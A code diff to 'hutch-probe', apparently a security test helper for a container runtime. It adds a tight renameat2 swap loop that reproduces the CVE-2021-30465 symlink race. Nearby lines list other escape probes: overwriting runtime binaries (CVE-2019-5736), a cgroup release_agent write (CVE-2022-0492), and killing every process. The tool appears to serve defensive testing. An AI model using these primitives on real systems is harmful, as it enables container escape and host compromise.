@@ -21,6 +21,7 @@
  *   hutch-probe keyrings                   the IDs of the session and user keyrings (without creating them)
  *   hutch-probe with-session PROG [ARG...] joins a new session keyring, then runs PROG (a host-side helper)
  *   hutch-probe exe-attack SECONDS [STOPFILE]  CVE-2019-5736: tries to write the binaries of hutch's processes
+ *   hutch-probe swap A B SECONDS           renameat2(RENAME_EXCHANGE) of A and B without pause; "swaps: N"
  *   hutch-probe release-agent              CVE-2022-0492: a new user+mount+cgroup namespace, a cgroup v1
  *                                          mount, and a write to its release_agent
  *
@@ -372,6 +373,29 @@ static int cmd_keyrings(void)
                 else
                         printf("%s: %lx\n", rings[i].name, r);
         }
+        return 0;
+}
+
+/* The racing container of CVE-2021-30465: swaps a directory and a symlink
+ * as fast as it can while another container starts with mounts below it. */
+static int cmd_swap(const char *a, const char *b, const char *secs)
+{
+        struct timespec now, end;
+        unsigned long n = 0;
+
+        if (atoi(secs) <= 0)
+                return 2;
+        clock_gettime(CLOCK_MONOTONIC, &end);
+        end.tv_sec += atoi(secs);
+        do {
+                for (int i = 0; i < 1000; i++)
+                        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
+                                n++;
+                        else if (n == 0)
+                                return print_result("swap", -errno);
+                clock_gettime(CLOCK_MONOTONIC, &now);
+        } while (now.tv_sec < end.tv_sec);
+        printf("swaps: %lu\n", n);
         return 0;
 }
 
@@ -761,6 +785,8 @@ int main(int argc, char **argv)
                 execvp(argv[0], argv);
                 return print_result("with-session", -errno);
         }
+        if (strcmp(cmd, "swap") == 0 && argc == 3)
+                return cmd_swap(argv[0], argv[1], argv[2]);
         if (strcmp(cmd, "release-agent") == 0)
                 return cmd_release_agent();
         if (strcmp(cmd, "exe-attack") == 0)
@@ -769,6 +795,6 @@ int main(int argc, char **argv)
                 return print_result("kill-all", kill(-1, SIGKILL) < 0 ? -errno : 0);
 usage:
         fprintf(stderr, "usage: hutch-probe status|syscall|nr|list|fork|thread|stat|read|ls|write|create|mknod|"
-                        "remount-rw|exec|kill-all|keyrings|with-session|exe-attack|release-agent ...\n");
+                        "remount-rw|exec|kill-all|keyrings|with-session|exe-attack|release-agent|swap ...\n");
         return 2;
 }
